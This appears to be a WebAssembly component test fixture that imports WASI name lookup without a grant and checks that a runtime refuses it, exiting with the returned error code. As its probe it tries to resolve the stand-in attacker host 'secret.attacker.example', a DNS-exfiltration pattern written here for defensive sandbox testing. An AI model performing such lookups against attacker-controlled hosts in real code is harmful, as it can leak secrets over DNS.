;; A command that imports name look-up, which no contract here grants, and asks
;; for an address. It exits with 100 and the number of the error code that this
;; gives: 120 is permanent-resolver-failure, which is answered without asking.
(component
  (import "wasi:sockets/network@0.2.0" (instance $n
    (export "network" (type (sub resource)))
    (type $ec' (enum "unknown" "access-denied" "not-supported" "invalid-argument" "out-of-memory" "timeout" "concurrency-conflict" "not-in-progress" "would-block" "invalid-state" "new-socket-limit" "address-not-bindable" "address-in-use" "remote-unreachable" "connection-refused" "connection-reset" "connection-aborted" "datagram-too-large" "name-unresolvable" "temporary-resolver-failure" "permanent-resolver-failure"))
    (export "error-code" (type (eq $ec')))))
  (alias export $n "network" (type $network))
  (alias export $n "error-code" (type $error))
  (import "wasi:sockets/instance-network@0.2.0" (instance $in
    (alias outer 1 $network (type $n'))
    (export "network" (type $net (eq $n')))
    (export "instance-network" (func (result (own $net))))))
  (import "wasi:sockets/ip-name-lookup@0.2.0" (instance $l
    (alias outer 1 $network (type $n'))
    (export "network" (type $net (eq $n')))
    (alias outer 1 $error (type $e'))
    (export "error-code" (type $e (eq $e')))
    (export "resolve-address-stream" (type $s (sub resource)))
    (export "resolve-addresses" (func (param "network" (borrow $net)) (param "name" string)
      (result (result (own $s) (error $e)))))))
  (import "wasi:cli/exit@0.2.0" (instance $x (export "exit-with-code" (func (param "status-code" u8)))))
  (core module $mem
    (memory (export "memory") 1)
    (data (i32.const 64) "secret.attacker.example"))
  (core instance $mi (instantiate $mem))
  (alias core export $mi "memory" (core memory $memory))
  (core func $network (canon lower (func $in "instance-network")))
  (core func $resolve (canon lower (func $l "resolve-addresses") (memory $memory)))
  (core func $exit (canon lower (func $x "exit-with-code")))
  (core module $m
    (import "h" "memory" (memory 1))
    (import "h" "network" (func $network (result i32)))
    (import "h" "resolve" (func $resolve (param i32 i32 i32 i32)))
    (import "h" "exit" (func $exit (param i32)))
    (func (export "run") (result i32)
      (call $resolve (call $network) (i32.const 64) (i32.const 23) (i32.const 16))
      (if (i32.eqz (i32.load8_u (i32.const 16))) (then (return (i32.const 0))))
      (call $exit (i32.add (i32.const 100) (i32.load8_u (i32.const 20))))
      unreachable))
  (core instance $i (instantiate $m (with "h" (instance
    (export "memory" (memory $memory)) (export "network" (func $network))
    (export "resolve" (func $resolve)) (export "exit" (func $exit))))))
  (func $run (result (result)) (canon lift (core func $i "run")))
  (instance $r (export "run" (func $run)))
  (export "wasi:cli/run@0.2.0" (instance $r)))
